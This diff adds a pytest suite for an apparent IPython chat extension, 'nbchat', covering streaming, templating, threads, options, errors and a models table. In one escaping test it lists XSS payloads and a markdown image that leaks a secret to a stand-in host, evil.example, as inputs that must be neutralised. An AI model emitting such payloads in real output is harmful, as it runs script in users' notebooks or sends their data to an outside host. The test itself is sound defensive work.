@@ -1,0 +1,447 @@
+"""%%chat and %models through a real IPython shell; the real local model for generation."""
+
+from __future__ import annotations
+
+import _thread
+import json
+import os
+import signal
+import subprocess
+import sys
+import textwrap
+import types
+
+import pytest
+from fakes import FakeProvider
+from IPython.core.error import UsageError
+from IPython.core.interactiveshell import InteractiveShell
+
+import nbchat
+from nbchat.core import registry
+from nbchat.core.errors import ProviderError
+from nbchat.core.types import ImagePart, Request
+from nbchat.notebook.magics import ChatMagics, expand_models, fill_template, image_paths
+
+LOCAL = "-m local -t 0 --seed 7"
+
+
+class Shell:
+    """A real InteractiveShell with our magics, recording what reaches the front end."""
+
+    def __init__(self) -> None:
+        self.ip = InteractiveShell.instance()
+        self.magics = ChatMagics(shell=self.ip)
+        self.ip.register_magics(self.magics)
+        self.messages: list[dict] = []
+        self._publish = self.ip.display_pub.publish
+        self.ip.display_pub.publish = self._record
+
+    def _record(self, data, metadata=None, *, transient=None, update=False, **kw):
+        self.messages.append({"data": data, "transient": transient or {}, "update": update})
+
+    def close(self) -> None:
+        self.ip.display_pub.publish = self._publish
+        if self.magics in self.ip.configurables:
+            self.ip.configurables.remove(self.magics)
+        self.ip.config.pop("ChatMagics", None)  # %config must not leak into the next test
+
+    def run(self, cell: str):
+        self.messages.clear()
+        return self.ip.run_cell(cell)
+
+    def ok(self, cell: str):
+        result = self.run(cell)
+        assert result.error_in_exec is None, result.error_in_exec
+        return result
+
+    def error(self, cell: str) -> str:
+        result = self.run(cell)
+        assert isinstance(result.error_in_exec, UsageError), result.error_in_exec
+        return str(result.error_in_exec)
+
+    def markdown(self) -> list[str]:
+        return [m["data"]["text/markdown"] for m in self.messages if "text/markdown" in m["data"]]
+
+    def final_outputs(self) -> list[str]:
+        """The outputs as the notebook keeps them: each display id at its last update."""
+        outs: list[str] = []
+        where: dict[str, int] = {}
+        for m in self.messages:
+            did = m["transient"].get("display_id")
+            md = m["data"].get("text/markdown", "")
+            if m["update"]:
+                outs[where[did]] = md
+            else:
+                if did:
+                    where[did] = len(outs)
+                outs.append(md)
+        return outs
+
+    def thread(self, name: str = "default"):
+        return self.magics.threads[name]
+
+
+@pytest.fixture
+def sh():
+    shell = Shell()
+    yield shell
+    shell.close()
+
+
+class KeyedFake(FakeProvider):
+    """A fake that needs a key, like every cloud provider."""
+
+    key_env = "NBCHAT_FAKEKEY_API_KEY"
+
+    async def stream(self, request: Request):
+        self.api_key(request.api_key)
+        async for ev in super().stream(request):
+            yield ev
+
+
+# ---- loading ---------------------------------------------------------------------------
+
+
+def test_load_ext_imports_nothing_heavy():
+    code = textwrap.dedent("""
+        import sys
+        from IPython.core.interactiveshell import InteractiveShell
+        ip = InteractiveShell.instance()
+        ip.run_line_magic("load_ext", "nbchat")
+        assert "chat" in ip.magics_manager.magics["cell"]
+        assert "models" in ip.magics_manager.magics["line"]
+        heavy = ["httpx", "llama_cpp", "ipywidgets", "anywidget", "PIL", "numpy",
+                 "nbchat.core.api", "nbchat.providers.llamacpp"]
+        print([m for m in heavy if m in sys.modules])
+    """)
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
+                         check=True)
+    assert out.stdout.strip() == "[]"
+
+
+# ---- the real local model --------------------------------------------------------------
+
+
+def test_local_model_streams_markdown_and_footer(sh):
+    sh.ok(f"%%chat {LOCAL} --max-tokens 40 --new\nName three colours.")
+    reply = nbchat.last
+    assert reply.model == "llamacpp:smollm2" and reply.text
+    outputs = sh.final_outputs()
+    assert outputs[-1].startswith("<sub>llamacpp:smollm2 · ")
+    assert "out tokens" in outputs[-1] and "tok/s" in outputs[-1]
+    assert "".join(outputs[:-1]).strip() == reply.text.strip().replace("<", "&lt;").replace(
+        ">", "&gt;")
+    assert sh.thread().history[-1].text == reply.text
+
+
+def test_local_follow_up_uses_history(sh):
+    sh.ok(f"%%chat {LOCAL} --max-tokens 20 --new\nMy name is Zorblat. Say hello.")
+    sh.ok(f"%%chat {LOCAL} --max-tokens 20\nWhat is my name?")
+    conv = sh.thread()
+    assert [m.role for m in conv.history] == ["user", "assistant", "user", "assistant"]
+    assert "Zorblat" in conv.history[0].text
+
+
+def test_interrupt_stops_local_generation_and_next_cell_works(sh):
+    sh.ok(f"%%chat {LOCAL} --max-tokens 3 --new\nHi")  # the model is loaded and warm
+    provider = registry.get_provider("llamacpp")
+    lock = next(iter(provider._models.values())).lock
+    seen: list[str] = []
+
+    def interrupt_on_third_update(data, metadata=None, *, transient=None, update=False, **kw):
+        seen.append(data.get("text/markdown", ""))
+        if len(seen) == 3:
+            _thread.interrupt_main()  # what a kernel interrupt does: SIGINT to the main thread
+
+    sh.ip.display_pub.publish = interrupt_on_third_update
+    sh.magics.update_interval = 0.05
+    # and a timer as a second, independent interrupt source
+    old = signal.signal(signal.SIGALRM, lambda *a: _thread.interrupt_main())
+    signal.setitimer(signal.ITIMER_REAL, 3.0)
+    try:
+        result = sh.run(f"%%chat {LOCAL} --max-tokens 400\nWrite a long story about a dragon.")
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, old)
+        sh.ip.display_pub.publish = sh._record
+    assert isinstance(result.error_in_exec, UsageError)
+    assert "interrupted" in str(result.error_in_exec)
+    reply = nbchat.last
+    assert reply.interrupted and reply.text
+    assert reply.usage.output_tokens < 400
+    assert "interrupted" in seen[-1]  # the footer says so
+    assert lock.acquire(timeout=2.0)  # the worker thread stopped
+    lock.release()
+    last = sh.thread().history[-1]
+    assert last.role == "assistant" and last.interrupted and last.text == reply.text
+    sh.ok(f"%%chat {LOCAL} --max-tokens 5\nThanks.")
+    assert not nbchat.last.interrupted and nbchat.last.text
+    assert sh.thread().history[-1].text == nbchat.last.text
+
+
+# ---- streaming mechanics, with the fake provider -----------------------------------------
+
+
+def test_updates_stream_in_place_and_are_throttled(sh, fake):
+    sh.magics.update_interval = 0.02
+    words = [f"w{i} " for i in range(150)]
+    fake.enqueue(*words, delay=0.002)
+    sh.ok("%%chat -m fake:echo\nGo")
+    live = [m for m in sh.messages if m["transient"].get("display_id")]
+    ids = {m["transient"]["display_id"] for m in live}
+    assert len(ids) == 1
+    assert sum(m["update"] for m in live) >= 2  # shown while it arrived, not only at the end
+    assert len(sh.messages) < len(words) / 5  # not one message per token
+    assert sh.final_outputs()[0] == "".join(words)
+
+
+def test_no_stream_shows_once(sh, fake):
+    fake.enqueue("a", "b", "c", delay=0.01)
+    sh.ok("%%chat -m fake:echo --no-stream\nGo")
+    assert sh.final_outputs()[0] == "abc"
+    assert not any(m["update"] for m in sh.messages)
+
+
+def test_template_fills_variables(sh, fake):
+    sh.ip.user_ns.update(who="Ada", data={"k": [1, 2]}, pi=3.14159)
+    sh.ok('%%chat -m fake:echo\nHi {who}! {data[k]} {pi:.2f} {who!r} {{who}} {"json": 1}')
+    assert fake.requests[-1].messages[-1].text == "Hi Ada! [1, 2] 3.14 'Ada' {who} {\"json\": 1}"
+
+
+def test_template_unknown_name_is_named(sh, fake):
+    msg = sh.error("%%chat -m fake:echo\nHi {nobody_here}")
+    assert "nobody_here" in msg
+    assert fake.requests == []
+
+
+def test_fill_template_pure():
+    assert fill_template("{a}{{b}}", {"a": 1}) == "1{b}"
+    with pytest.raises(UsageError, match="AttributeError"):
+        fill_template("{a.nope}", {"a": 1})
+
+
+def test_threads_new_and_model_switch(sh, fake):
+    sh.ok("%%chat -m fake:echo\none")
+    sh.ok("%%chat\ntwo")
+    assert [m.text for m in fake.requests[-1].messages] == ["one", "one", "two"]
+    sh.ok("%%chat -m fake:echo --thread side\nelsewhere")
+    assert [m.text for m in fake.requests[-1].messages] == ["elsewhere"]
+    sh.ok("%%chat -m fake:other\nthree")  # a new model keeps the history
+    assert fake.requests[-1].model == "other"
+    assert len(fake.requests[-1].messages) == 5
+    sh.ok("%%chat\nfour")  # and stays for the thread
+    assert fake.requests[-1].model == "other"
+    sh.ok("%%chat --new -s 'Be brief.'\nfresh")
+    assert [(m.role, m.text) for m in fake.requests[-1].messages] == [
+        ("system", "Be brief."), ("user", "fresh")]
+    sh.ok("%%chat\nagain")  # the system prompt stays with the thread
+    assert fake.requests[-1].messages[0].text == "Be brief."
+
+
+def test_as_and_last(sh, fake):
+    fake.enqueue("stored")
+    sh.ok("%%chat -m fake:echo --as answer\nGo")
+    assert sh.ip.user_ns["answer"] is nbchat.last
+    assert nbchat.last.text == "stored"
+    assert sh.error("%%chat -m fake:echo --as 1bad\nGo").startswith("--as")
+
+
+def test_config_traits(sh, fake):
+    sh.ok("%config ChatMagics.default_model = 'fake:echo'")
+    sh.ok("%config ChatMagics.temperature = 0.3")
+    sh.ok("%config ChatMagics.max_tokens = 12")
+    sh.ok("%%chat --seed 4 --stop 'END' --stop STOP --json\nGo")
+    opts = fake.requests[-1].options
+    assert (opts.temperature, opts.max_tokens, opts.seed, opts.stop, opts.json) == (
+        0.3, 12, 4, ("END", "STOP"), True)
+    sh.ok("%%chat -t 1.5\nGo")
+    assert fake.requests[-1].options.temperature == 1.5
+
+
+def test_schema_base_url_and_images_from_variables(sh, fake, tmp_path):
+    png = ImagePart(b"\x89PNG\r\n\x1a\nfake", "image/png")
+    path = tmp_path / "pic.png"
+    path.write_bytes(png.data)
+    sh.ip.user_ns.update(shape={"type": "object", "properties": {"a": {"type": "string"}}},
+                         pic=png.data)
+    sh.ok(f"%%chat -m fake:echo --schema shape --base-url http://127.0.0.1:9/v1 "
+          f"--image pic --image {path}\nDescribe")
+    req = fake.requests[-1]
+    assert req.options.schema["properties"] == {"a": {"type": "string"}} and req.options.json
+    assert req.base_url == "http://127.0.0.1:9/v1"
+    assert [p.data for p in req.messages[-1].images] == [png.data, png.data]
+    assert "nope" in sh.error("%%chat -m fake:echo --schema nope\nGo")
+    assert "no variable or file" in sh.error("%%chat -m fake:echo --image ghost\nGo")
+
+
+def test_bad_option_is_a_clear_error(sh, fake):
+    msg = sh.error("%%chat -m fake:echo -t 5\nGo")
+    assert "temperature" in msg and "0..2" in msg
+    assert "max_tokens" in sh.error("%%chat -m fake:echo --max-tokens 0\nGo")
+    assert fake.requests == []
+
+
+def test_unknown_model_shows_close_matches(sh):
+    msg = sh.error("%%chat -m llamacpp:smollm\nGo")
+    assert "llamacpp:smollm2" in msg and "%models" in msg
+
+
+def test_missing_key_says_which_variable(sh, monkeypatch):
+    monkeypatch.delenv("NBCHAT_FAKEKEY_API_KEY", raising=False)
+    registry.register(KeyedFake("keyed"))
+    try:
+        msg = sh.error("%%chat -m keyed:echo\nGo")
+    finally:
+        registry.unregister("keyed")
+    assert "NBCHAT_FAKEKEY_API_KEY" in msg
+    assert "Traceback" not in msg
+
+
+def test_cerebras_missing_key_when_that_provider_exists(sh):
+    import importlib.util
+
+    if importlib.util.find_spec("nbchat.providers.cerebras") is None:
+        # no cerebras module in this checkout: still a short message naming it, no traceback
+        assert "nbchat.providers.cerebras" in sh.error("%%chat -m cerebras:llama3.1-70b\nGo")
+    else:
+        assert "CEREBRAS_API_KEY" in sh.error("%%chat -m cerebras:llama3.1-70b\nGo")
+
+
+@pytest.mark.parametrize("bad, forbidden", [
+    ("<img src=x onerror=alert(1)>", "<img"),
+    ("<script>alert(1)</script>", "<script"),
+    ("[click](javascript:alert(1))", "javascript:"),
+    ("![leak](https://evil.example/x.png?q=secret)", "!["),
+])
+def test_model_output_is_escaped(sh, fake, bad, forbidden):
+    fake.enqueue("Hello ", bad, "\n\nmore ", bad)
+    sh.ok("%%chat -m fake:echo\nGo")
+    sent = sh.markdown()
+    assert sent and not any(forbidden in md for md in sent)
+
+
+def test_error_mid_stream_keeps_partial_text(sh, fake):
+    fake.enqueue("partial ", "text", error=ProviderError("overloaded", status=503, provider="fake"))
+    msg = sh.error("%%chat -m fake:echo\nGo")
+    assert "503" in msg and "overloaded" in msg
+    assert "partial text" in "".join(sh.final_outputs())
+    assert nbchat.last.text == "partial text"
+    assert sh.thread().history[-1].text == "partial text"
+    fake.enqueue("fine")
+    sh.ok("%%chat\nretry")
+    assert nbchat.last.text == "fine"
+
+
+def test_images_are_shown_and_saved(sh, fake, tmp_path):
+    from PIL import Image
+
+    def png(color):
+        import io
+
+        buf = io.BytesIO()
+        Image.new("RGB", (4, 4), color).save(buf, format="PNG")
+        return ImagePart(buf.getvalue(), "image/png")
+
+    fake.enqueue("Here:", images=[png("red")])
+    one = tmp_path / "one.png"
+    sh.ok(f"%%chat -m fake:echo --save {one}\nDraw")
+    images = [m["data"]["image/png"] for m in sh.messages if "image/png" in m["data"]]
+    assert len(images) == 1
+    assert Image.open(one).getpixel((0, 0)) == (255, 0, 0)
+    fake.enqueue(images=[png("red"), png("blue")])
+    sh.ok(f"%%chat -m fake:echo --save {tmp_path / 'many.png'}\nDraw two")
+    assert Image.open(tmp_path / "many_2.png").getpixel((0, 0)) == (0, 0, 255)
+    assert image_paths("out/{i}.jpg", 2) == ["out/1.jpg", "out/2.jpg"]
+    assert image_paths("x.png", 1) == ["x.png"]
+
+
+def test_tool_calls_are_listed(sh, fake):
+    from nbchat.core.types import ToolCall
+
+    fake.enqueue(tool_calls=[ToolCall("get_weather", {"city": "<b>Oslo</b>"})])
+    sh.ok("%%chat -m fake:echo\nWeather?")
+    calls = [md for md in sh.markdown() if "Tool calls" in md]
+    assert calls and "get_weather" in calls[0]
+
+
+# ---- compare delegation ------------------------------------------------------------------
+
+
+def test_several_models_delegate_to_compare(sh, fake, monkeypatch):
+    calls = []
+
+    def compare(models, prompt, **options):
+        calls.append((models, prompt, options))
+        return {m: f"reply of {m}" for m in models}
+
+    monkeypatch.setitem(sys.modules, "nbchat.notebook.compare",
+                        types.SimpleNamespace(compare=compare))
+    sh.ok("%%chat -m fake:echo,local -t 0 --as both\nSame {x}".replace("{x}", "question"))
+    assert calls == [(["fake:echo", "local"], "Same question", {"temperature": 0.0})]
+    assert sh.ip.user_ns["both"] is nbchat.last and set(nbchat.last) == {"fake:echo", "local"}
+    assert expand_models("fake:*") == ["fake:echo", "fake:other"]
+
+
+def test_compare_missing_module_is_a_clear_error(sh, monkeypatch):
+    monkeypatch.setitem(sys.modules, "nbchat.notebook.compare", None)
+    msg = sh.error("%%chat -m a:b,c:d\nGo")
+    assert "compare" in msg
+
+
+# ---- %models -------------------------------------------------------------------------------
+
+
+def test_models_table(sh, fake, monkeypatch):
+    monkeypatch.setenv("NBCHAT_FAKEKEY_API_KEY", "sk-supersecretvalue123")
+    monkeypatch.delenv("NBCHAT_FAKEKEY2_API_KEY", raising=False)
+
+    class Keyed2(KeyedFake):
+        key_env = "NBCHAT_FAKEKEY2_API_KEY"
+
+        def known_models(self):
+            return [m.__class__(**{**m.__dict__, "key_set": self.key_set(),
+                                   "key_env": self.key_env,
+                                   "id": m.id.replace("keyless", "keyless")})
+                    for m in super().known_models()]
+
+    class Broken(FakeProvider):
+        def known_models(self):
+            raise RuntimeError("table <b>lost</b>")
+
+        async def list_models(self, **kw):
+            raise RuntimeError("table <b>lost</b>")
+
+    registry.register(Keyed2("keyless"))
+    registry.register(Broken("broken"))
+    monkeypatch.setitem(registry._BUILTIN, "ghost", "nbchat.providers.ghost_nowhere:Ghost")
+    try:
+        sh.ok("%models")
+        html = sh.messages[-1]["data"]["text/html"]
+        plain = sh.messages[-1]["data"]["text/plain"]
+    finally:
+        registry.unregister("keyless")
+        registry.unregister("broken")
+    assert "llamacpp:smollm2" in html and "fake:echo" in html
+    assert "❌ set NBCHAT_FAKEKEY2_API_KEY" in html
+    assert "stream, tools, JSON" in html
+    assert "ghost" in html and "cannot be imported" in html  # noted, not fatal
+    assert "table &lt;b&gt;lost&lt;/b&gt;" in html and "<b>" not in html
+    assert "supersecret" not in html + plain
+    sh.ok("%models fake")
+    html = sh.messages[-1]["data"]["text/html"]
+    assert "fake:echo" in html and "llamacpp" not in html
+    assert "unknown model" in sh.error("%models nosuchprovider").lower()
+
+
+def test_reply_repr_uses_the_same_escaping(sh, fake):
+    fake.enqueue("<script>x</script>")
+    sh.ok("%%chat -m fake:echo\nGo")
+    assert "<script" not in nbchat.last._repr_markdown_()
+    assert json.dumps(sh.final_outputs()[0]) and "&lt;script&gt;" in sh.final_outputs()[0]
+
+
+def test_extension_loads_in_a_shell():
+    ip = InteractiveShell.instance()
+    ip.run_line_magic("load_ext", "nbchat")
+    assert "chat" in ip.magics_manager.magics["cell"]
+    assert os.path.basename(nbchat.__file__) == "__init__.py"
